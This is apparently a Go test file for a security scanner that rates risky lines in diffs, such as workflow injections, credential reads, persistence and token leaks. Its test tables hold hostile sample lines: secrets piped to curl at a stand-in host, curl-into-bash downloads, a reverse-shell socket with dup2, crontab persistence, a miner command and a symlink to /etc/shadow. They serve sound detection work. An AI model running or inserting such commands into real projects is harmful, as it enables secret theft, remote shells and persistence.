package attention

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/vetter-dev/vetter/packet"
)

// wfDiff is a workflow diff: ctx lines as context, then the added line.
func wfDiff(path string, ctx []string, line string) string {
	var b strings.Builder
	fmt.Fprintf(&b, "diff --git a/%s b/%s\n--- a/%s\n+++ b/%s\n@@ -1,%d +1,%d @@\n", path, path, path, path, len(ctx), len(ctx)+1)
	for _, c := range ctx {
		b.WriteString(" " + c + "\n")
	}
	b.WriteString("+" + line + "\n")
	return b.String()
}

// lineVerdict is "severity rule" of the item on the added line, "" for none.
func lineVerdict(t *testing.T, diff string) string {
	t.Helper()
	_, items := scanDiff(t, "the diff", []byte(diff))
	for _, a := range items {
		if a.Hunk >= 0 {
			if a.Why == "" || a.Rule == "" {
				t.Errorf("item %q has no rule or reason", attentionRow(a))
			}
			return a.Severity + " " + a.Rule
		}
	}
	return ""
}

func TestAttentionWorkflowRules(t *testing.T) {
	const wf = ".github/workflows/ci.yml"
	runBlock := []string{"jobs:", "  t:", "    steps:", "      - name: x", "        run: |", "          set -e"}
	prt := []string{"on:", "  pull_request_target:", "jobs:", "  t:", "    steps:", "      - run: |", "          set -e"}
	prTrigger := []string{"on: [push, pull_request]", "jobs:", "  t:"}
	tests := []struct {
		name string
		ctx  []string
		line string
		want string
	}{
		{"title in run", nil, `      - run: echo "${{ github.event.pull_request.title }}"`, "high gha-script-injection"},
		{"head_ref in a run block", runBlock, `          git checkout ${{ github.head_ref }}`, "high gha-script-injection"},
		{"comment body in github-script", []string{"      with:", "        script: |"}, "          const b = `${{ github.event.comment.body }}`", "high gha-script-injection"},
		{"hunk starting inside a run block", nil, `          echo ${{ github.event.issue.title }}`, "high gha-script-injection"},
		// Trusted contexts and the safe env: pattern are not injection.
		{"matrix in run", runBlock, `          go test -run ${{ matrix.pkg }} ./...`, ""},
		{"inputs in run", runBlock, `          echo ${{ inputs.version }} ${{ github.event.inputs.tag }}`, ""},
		{"sha in run", runBlock, `          echo ${{ github.sha }} ${{ github.event.pull_request.head.sha }}`, ""},
		{"base ref in run", runBlock, `          git diff origin/${{ github.event.pull_request.base.ref }}`, ""},
		{"title through env", []string{"      - env:"}, `          TITLE: ${{ github.event.pull_request.title }}`, ""},
		{"trigger", nil, "on: pull_request_target", "medium gha-privileged-trigger"},
		{"trigger in a list", nil, "on: [push, workflow_run]", "medium gha-privileged-trigger"},
		{"trigger in a comment", nil, "# not pull_request_target: it has secrets", ""},
		{"trigger in a condition", nil, "    if: github.event_name == 'pull_request_target'", ""},
		{"head checkout under pull_request_target", prt, "          ref: ${{ github.event.pull_request.head.sha }}", "high gha-untrusted-checkout"},
		{"head checkout under pull_request", prTrigger, "          ref: ${{ github.event.pull_request.head.sha }}", "low gha-pr-checkout"},
		{"third-party by tag", nil, "      - uses: acme/deploy-action@v1", "medium gha-unpinned-uses"},
		{"reusable workflow by branch", nil, "    uses: acme/ci/.github/workflows/b.yml@main", "medium gha-unpinned-branch"},
		{"third-party by SHA", nil, "      - uses: acme/deploy-action@0123456789abcdef0123456789abcdef01234567 # v1", "low gha-pinned-unchecked"},
		{"first-party by tag", nil, "      - uses: actions/checkout@v4", "low gha-first-party-tag"},
		{"local action", nil, "      - uses: ./.github/actions/setup", ""},
		{"docker by tag", nil, "      - uses: docker://alpine:3.20", "medium gha-container-tag"},
		{"docker by digest", nil, "      - uses: docker://alpine@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef", ""},
		{"write-all", prTrigger, "permissions: write-all", "high gha-excessive-permissions"},
		{"write-all on release only", []string{"on: release"}, "permissions: write-all", "medium gha-write-permission"},
		{"contents write", []string{"permissions:"}, "  contents: write", "high gha-excessive-permissions"},
		{"issues write", []string{"permissions:"}, "  issues: write", "medium gha-write-permission"},
		{"read", []string{"permissions:"}, "  contents: read", ""},
		{"self-hosted for pull requests", prTrigger, "    runs-on: [self-hosted, gpu]", "high gha-self-hosted-runner"},
		// A push workflow runs the pull request's code once /ok to test copies it to a branch.
		{"self-hosted on push", []string{"on: push"}, "    runs-on: self-hosted", "high gha-self-hosted-runner"},
		{"self-hosted on release", []string{"on: release"}, "    runs-on: self-hosted", "medium gha-self-hosted"},
		{"secrets inherit", nil, "    secrets: inherit", "medium gha-secrets-inherit"},
		{"persist-credentials true", nil, "          persist-credentials: true", "high gha-persist-credentials"},
		{"persist-credentials false", nil, "          persist-credentials: false", ""},
		{"all secrets", runBlock, "          echo '${{ toJSON(secrets) }}'", "high gha-all-secrets"},
		{"secret sent away", runBlock, `          curl -d "${{ secrets.NPM_TOKEN }}" https://x.invalid`, "high secret-send"},
		{"secret in a command", runBlock, `          docker login -p "${{ secrets.DOCKER_PASSWORD }}"`, "medium gha-secret-in-run"},
		{"secret passed to a step", []string{"        env:"}, "          NPM_TOKEN: ${{ secrets.NPM_TOKEN }}", "medium gha-secret"},
		{"secret in a privileged workflow", prt, "  TOKEN: ${{ secrets.DEPLOY }}", "medium gha-secret-in-privileged"},
		{"runner token in run", runBlock, `          echo "$ACTIONS_ID_TOKEN_REQUEST_TOKEN"`, "high ci-runner-token"},
		{"LD_PRELOAD into GITHUB_ENV", runBlock, `          echo "LD_PRELOAD=$PWD/x.so" >> $GITHUB_ENV`, "high gha-env-hijack"},
		{"GITHUB_PATH under pull_request_target", prt, `          echo "$PWD/bin" >> $GITHUB_PATH`, "high gha-github-env-privileged"},
		{"GITHUB_PATH on push", runBlock, `          echo "$PWD/bin" >> $GITHUB_PATH`, "low gha-github-env"},
		{"title into GITHUB_ENV outside run", nil, `  X: echo "T=${{ github.event.issue.title }}" >> $GITHUB_ENV`, "high gha-env-injection"},
		{"unsecure commands", nil, "      ACTIONS_ALLOW_UNSECURE_COMMANDS: true", "high gha-unsecure-commands"},
		{"plain-http index", runBlock, "          pip install --index-url http://mirror.invalid/simple x", "high package-index-insecure"},
		{"curl into a shell in run", runBlock, "          curl -sSL https://x.invalid/i | bash", "high download-and-run"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := lineVerdict(t, wfDiff(wf, tt.ctx, tt.line)); got != tt.want {
				t.Errorf("%q: got %q, want %q", tt.line, got, tt.want)
			}
		})
	}
	// A composite action is read the same way.
	if got := lineVerdict(t, wfDiff("tools/act/action.yml", nil, `      run: echo "${{ github.event.pull_request.body }}"`)); got != "high gha-script-injection" {
		t.Errorf("composite action: got %q", got)
	}
}

func TestAttentionLineRules(t *testing.T) {
	tests := []struct {
		path, line, want string
	}{
		{"x.sh", "curl -o /tmp/t https://x.invalid/t && chmod +x /tmp/t && /tmp/t", "high download-and-run"},
		{"x.py", `exec(urlopen("https://x.invalid/a.py").read())`, "high download-and-run"},
		{"x.sh", "env | curl -d @- https://x.invalid", "high secret-send"},
		{"x.py", `requests.post(u, json=dict(os.environ))`, "high secret-send"},
		{"x.sh", "env | sort", ""},
		{"x.sh", "printenv HOME", ""},
		{"x.sh", "(crontab -l; echo '* * * * * /tmp/a') | crontab -", "high persistence"},
		{"x.sh", "echo 'alias ls=/tmp/x' >> ~/.bashrc", "high persistence"},
		{"x.sh", "systemctl link /tmp/agent.service", "high persistence"},
		// A unit this file does not write came with a package.
		{"x.sh", "systemctl enable agent.service", "medium persistence"},
		{"x.py", `s.connect(("203.0.113.5", 4444))`, "high reverse-shell"},
		{"x.py", `s.connect(("127.0.0.1", 4444))`, "medium network"},
		{"x.py", "os.dup2(s.fileno(), 0)", "high reverse-shell"},
		{"x.sh", "./xmrig -o stratum+tcp://pool.invalid:3333", "high crypto-mining"},
		{"x.sh", "git config core.hooksPath .hooks", "high git-hooks"},
		{"x.sh", "git config filter.x.smudge 'sh x.sh'", "high git-config-exec"},
		{"x.sh", "pip install --trusted-host m.invalid x", "high package-index-insecure"},
		{"x.sh", "npm install --registry http://localhost:4873", "medium install-packages"},
		{"requirements.txt", "--extra-index-url https://download.pytorch.org/whl/cu121", "medium package-index"},
		{"pyproject.toml", `backend-path = ["_build"]`, "high in-tree-build-backend"},
		{"pyproject.toml", `build-backend = "hatchling.build"`, "medium build-hook"},
		{"tests/conftest.py", `pytest_plugins = ["helpers.plug"]`, "medium build-hook"},
		{".gitattributes", "*.c filter=indent", "medium gitattributes-filter"},
		{".gitattributes", "*.bin filter=lfs diff=lfs merge=lfs -text", ""},
		{".gitmodules", "\turl = ext::sh -c touch% /tmp/x", "high gitmodules-url-unsafe"},
		{".gitmodules", "\turl = https://github.com/a/b", "medium gitmodules-url"},
		// Requests, sockets and URL calls run by themselves in build-time code.
		{"setup.py", `requests.get("https://x.invalid/v")`, "high build-code-fetch"},
		{"tests/conftest.py", "sock = socket.create_connection((h, p))", "high build-code-fetch"},
		{"app/client.py", `requests.get("https://x.invalid/v")`, "medium download"},
		// Token shapes, and their placeholders.
		{"x.py", `T = "ghp_R8x2mQ7vLk3NwZ9pT4yHs6uJc1bDf0aGe5Vo"`, "high live-token"},
		{"x.py", `T = "ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"`, ""},
		{"x.py", `K = "AKIA4QW7ZR2LXN5TYPKM"`, "high live-token"},
		{"x.py", `K = "AKIAIOSFODNN7EXAMPLE"`, ""},
		{"x.json", `"private_key_id": "3f9a2c7b1e8d4f6a0b5c9e2d7f1a3b8c6d4e0f2a",`, "high live-token"},
		{"x.sh", "SLACK=xoxb-2048417285-4951392857213-Kq8vXr2Lm8Np", "high live-token"},
		{"x.sh", "SLACK=xoxb-your-token-here", ""},
		{"x.py", "# the password is hashed before it is stored", ""},
		{"x.py", "data = base64.b64encode(raw)", ""},
		{"setup.py", `cmdclass={"install": Post},`, "medium setup-cmdclass"},
		{"x.sh", "git clone https://x.invalid/r.git", "medium git-clone"},
		{"x.py", `key = os.environ["AWS_SECRET_ACCESS_KEY"]`, "medium cloud-credentials"},
		{"x.sh", "cat notes | bash", "medium pipe-to-shell"},
		{"go.mod", "replace example.com/a => ../a", "medium gomod-replace"},
		{"Dockerfile", "ADD https://x.invalid/t.tgz /opt/", "medium docker-add-url"},
		{"x.go", `deploy := os.Getenv("DEPLOY_SECRET")`, "medium names-secret"},
		{"x.js", "const k = secrets.API_KEY", "medium ci-secrets-name"},
		{"x.js", "const k = `${{ secrets.API_KEY }}`", "high ci-secrets"},
		{"x.sh", `sh -c "$CMD"`, "medium shell-string"},
		{"x.sh", `wget --header "Authorization: token $T" https://x.invalid`, "medium download"},
		{"x.txt", `Authorization: Bearer abc`, ""},
		{"x.http", `Authorization: Bearer abc`, "medium auth-header"},
		{"x.py", "subprocess.run(args)", "medium start-process"},
		// Naming is not reading: a constant or a message is medium, a read is high.
		{"auth.go", `githubToken = "GITHUB_TOKEN"`, "medium ci-token"},
		{"auth.go", `tok := os.Getenv("GITHUB_TOKEN")`, "medium ci-token"},
		{"x.sh", `curl -H "token $GH_TOKEN" x.invalid`, "medium ci-token"},
		{"netrc.py", `"~/.netrc access too permissive: access"`, "medium credential-file"},
		{"x.py", `data = open(os.path.expanduser("~/.netrc")).read()`, "high credential-file-read"},
		{"x.py", "env = dict(os.environ)", ""},
		{"server.py", "os.dup2(self.rfile.fileno(), 0)", ""},
		// A comment does not run; a secret in one is still a secret.
		{"x.sh", "# curl -fsSL https://x.invalid/i | sh", "medium download-and-run"},
		{"x.py", `# T = "ghp_R8x2mQ7vLk3NwZ9pT4yHs6uJc1bDf0aGe5Vo"`, "high live-token"},
		{"x.go", "// \u202e hidden", "high hidden-bidi"}, // Trojan Source hides in comments
		// A key among test fixtures is most likely a test key.
		{"internal/tls/testdata/key.pem", "-----BEGIN PRIVATE KEY-----", "medium private-key"},
		{"deploy/key.pem", "-----BEGIN PRIVATE KEY-----", "high private-key"},
	}
	for _, tt := range tests {
		t.Run(tt.path+" "+tt.line, func(t *testing.T) {
			if got := lineVerdict(t, oneLineDiff(tt.path, tt.line)); got != tt.want {
				t.Errorf("%s: %q: got %q, want %q", tt.path, tt.line, got, tt.want)
			}
		})
	}
}

func TestAttentionFileRules(t *testing.T) {
	for path, want := range map[string]string{
		"pyproject.toml":                  "medium build-backend",
		"build.rs":                        "medium build-rs",
		".gitmodules":                     "medium gitmodules",
		".npmrc":                          "medium package-manager-config",
		".devcontainer/devcontainer.json": "medium devcontainer",
		".vscode/tasks.json":              "medium editor-tasks",
		".github/workflows/a.yml":         "medium ci-workflow",
		".github/actions/a/action.yml":    "medium ci-action",
		".gitlab-ci.yml":                  "medium ci-config",
		"package.json":                    "medium package-json",
		".husky/pre-push":                 "medium git-hook",
		"setup.py":                        "medium setup-py",
		"yarn.lock":                       "low lock-file",
		".gitconfig":                      "high git-config",
	} {
		d, _ := packet.ParseDiff([]byte(oneLineDiff(path, "x = 1")))
		got := ""
		for _, a := range Scan(d) {
			if a.Hunk < 0 {
				got = a.Severity + " " + a.Rule
			}
		}
		if got != want {
			t.Errorf("%s: got %q, want %q", path, got, want)
		}
	}
}

func TestAttentionPlumbing(t *testing.T) {
	bin := "diff --git a/lib/x.so b/lib/x.so\nnew file mode 100644\nBinary files /dev/null and b/lib/x.so differ\n" +
		"diff --git a/img/a.png b/img/a.png\nnew file mode 100644\nBinary files /dev/null and b/img/a.png differ\n" +
		"diff --git a/t/up b/t/up\nnew file mode 120000\n--- /dev/null\n+++ b/t/up\n@@ -0,0 +1 @@\n+../../../etc/shadow\n" +
		"diff --git a/t/in b/t/in\nnew file mode 120000\n--- /dev/null\n+++ b/t/in\n@@ -0,0 +1 @@\n+../README\n" +
		oneLineDiff(".github/CODEOWNERS", "* @someone") + oneLineDiff("CODEOWNERS.md", "about owners")
	_, items := scanDiff(t, "the plumbing diff", []byte(bin))
	var got []string
	for _, a := range items {
		if a.Hunk < 0 {
			got = append(got, a.Severity+" "+a.Rule+" "+a.Path)
		}
	}
	want := []string{
		"high binary-executable lib/x.so",
		"high symlink-escape t/up",
		"high codeowners .github/CODEOWNERS",
		"medium binary-file img/a.png",
		"medium symlink t/in",
	}
	if !slices.Equal(got, want) {
		t.Errorf("got %q\nwant %q", got, want)
	}
}
